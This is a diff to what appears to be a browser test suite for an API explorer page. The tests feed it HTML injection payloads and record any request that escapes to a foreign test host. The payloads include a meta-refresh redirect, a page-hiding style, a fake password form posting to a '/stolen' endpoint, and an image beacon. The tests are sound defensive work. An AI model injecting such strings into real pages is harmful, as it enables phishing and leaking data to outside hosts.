@@ -13,6 +13,7 @@ const LEAVES = {
   refresh: (host: string) => `"><meta http-equiv="refresh" content="0;url=${host}/left">`,
   hide: () => '"><style>*{display:none!important}</style>',
   form: (host: string) => `"><form action="${host}/stolen"><input type="password" name="p"></form>`,
+  load: (host: string) => `![a](${host}/image.png) <img src="${host}/image.png">`,
   cover: () => '<div class="fixed inset-0 h-screen w-screen z-10 bg-b-1">cover</div>',
 };
 const SPELLINGS = [
@@ -28,7 +29,7 @@ let root: string;
 let server: FolderServer;
 let browser: SharedBrowser;
 let foreign: Server;
-/** Requests that have reached the other host. */
+/** Requests for the other host, those included that the policy of a page stops. */
 const reached: string[] = [];
 
 /** A sample in the shape that the spelling has. */
@@ -137,6 +138,10 @@ afterAll(async () => {
 
 async function openExplorer(name: string): Promise<Page> {
   const page = await browser.newPage({ viewport: { width: 1440, height: 1000 } });
+  page.on('request', (request) => {
+    if (!/^data:/.test(request.url()) && !request.url().startsWith(server.origin))
+      reached.push(request.url());
+  });
   await page.goto(`${server.origin}/${name}/explorer/`);
   await page.locator('.scalar-app').getByRole('heading', { level: 1 }).first().waitFor();
   return page;
